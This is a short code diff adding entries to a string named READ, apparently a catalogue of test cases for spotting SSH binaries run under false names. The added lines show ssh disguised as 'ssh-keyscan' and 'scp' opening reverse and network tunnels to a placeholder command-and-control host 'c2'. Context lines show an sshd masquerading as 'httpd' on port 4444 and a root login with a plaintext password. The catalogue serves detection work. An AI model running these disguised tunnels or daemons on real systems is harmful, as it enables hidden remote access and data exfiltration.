@@ -45,6 +45,10 @@ READ = """
         -> ssh under the name x to d as c
     x | /tmp/x | /tmp/x -p 2222 root@203.0.113.9
         -> ssh under the name x to 203.0.113.9:2222 as root
+    ssh-keyscan | /tmp/ssh-keyscan | ssh-keyscan -N -R 8080:localhost:80 root@c2
+        -> Reverse tunnel out of web to c2, ssh under the name ssh-keyscan
+    scp | /tmp/scp | scp -fNw 0:0 root@c2
+        -> Network tunnel out of web to c2, ssh under the name scp
     httpd | /tmp/httpd | /tmp/httpd -D -p 4444 -f /tmp/c -h /tmp/k
         -> sshd under the name httpd started inside web, port 4444
     plink | /usr/bin/plink | plink -ssh -P 2222 -l root -pw secret 10.0.0.7 id
